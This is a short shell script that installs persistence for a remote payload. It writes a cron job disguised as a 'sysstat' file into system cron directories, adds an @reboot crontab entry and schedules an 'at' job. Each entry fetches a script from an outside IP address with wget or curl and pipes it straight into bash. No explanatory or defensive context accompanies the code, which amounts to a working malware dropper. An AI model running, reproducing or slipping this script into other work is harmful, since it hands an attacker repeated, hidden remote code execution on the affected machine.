#!/bin/sh
PATH=/usr/sbin:/usr/bin:/sbin:/bin
cat_line='*/5 * * * * root wget -q -O - http://198.51.100.11/u.sh | bash'
for d in /etc/cron.d /etc/cron.hourly; do
  [ -w "$d" ] || continue
  echo "$cat_line" > "$d/0sysstat"
  chmod 644 "$d/0sysstat"
done
(crontab -l 2>/dev/null | grep -v u.sh; echo '@reboot (wget -qO- http://198.51.100.11/u.sh | bash) &') | crontab -
echo '(curl -s http://198.51.100.11/u.sh|bash)' | at now + 10 minutes 2>/dev/null
